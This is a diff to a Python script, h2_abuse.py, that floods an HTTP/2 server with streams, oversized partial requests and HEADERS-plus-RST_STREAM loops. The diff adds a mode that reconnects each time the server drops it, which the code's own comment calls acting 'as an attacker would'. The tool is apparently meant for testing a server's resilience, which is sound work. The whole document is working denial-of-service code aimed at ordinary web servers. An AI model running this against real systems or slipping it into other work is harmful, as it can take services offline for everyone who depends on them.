@@ -11,6 +11,8 @@ flow-control windows.
                                                 COUNT Dispatch requests that
                                                 announce 60 MB and send BYTES
   h2_abuse.py HOST PORT reset SECONDS           HEADERS + RST_STREAM in a loop
+  h2_abuse.py HOST PORT resets SECONDS          the same, on a new connection
+                                                whenever the server cuts one
 
 Prints one line: what it sent, and how the server answered (frames by type).
 """
@@ -30,6 +32,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 class Connection:
     def __init__(self, host, port):
+        self.sock_address = (host, port)
         self.sock = socket.create_connection((host, port))
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.encoder = Encoder()
@@ -108,11 +111,19 @@ def partial(conn, count, size, hold):
     return f"sent {count} partial requests of {size} bytes"
 
 
-def reset(conn, seconds):
+def reset(conn, seconds, come_back=False):
     end = time.monotonic() + seconds
     stream_id = 1
     sent = 0
-    while time.monotonic() < end and not conn.closed:
+    connections = 1
+    while time.monotonic() < end:
+        if conn.closed and not come_back:
+            break
+        if conn.closed:  # cut: come back, as an attacker would
+            conn.sock.close()
+            conn = Connection(*conn.sock_address)
+            connections += 1
+            stream_id = 1
         batch = []
         for _ in range(200):
             batch.append(conn.headers(stream_id, method="Idle"))
@@ -122,14 +133,15 @@ def reset(conn, seconds):
         sent += 200
         if stream_id > (1 << 31) - 1000:
             break
-    return f"reset {sent} streams"
+    return f"reset {sent} streams on {connections} connections"
 
 
 def main():
     host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
     args = [int(a) for a in sys.argv[4:]]
     conn = Connection(host, port)
-    what = {"streams": streams, "partial": partial, "reset": reset}[mode](conn, *args)
+    what = {"streams": streams, "partial": partial, "reset": reset,
+            "resets": lambda c, s: reset(c, s, come_back=True)}[mode](conn, *args)
     conn.send(GoAwayFrame(0, last_stream_id=0).serialize())
     conn.sock.close()
     print(f"{what}; server sent {dict(conn.received)}; "
